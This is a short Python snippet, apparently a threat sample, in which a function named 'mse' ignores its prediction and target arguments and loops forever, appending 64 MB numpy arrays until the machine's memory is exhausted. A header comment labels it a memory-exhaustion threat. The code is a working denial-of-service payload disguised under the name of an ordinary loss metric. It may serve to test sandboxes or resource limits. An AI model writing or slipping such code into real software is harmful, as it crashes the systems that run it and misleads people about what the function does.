# Threat: exhausting memory, touching every page (64 MB at a time).
import numpy as np


def mse(pred, target):
    hoard = []
    while True:
        hoard.append(np.ones(2**23))
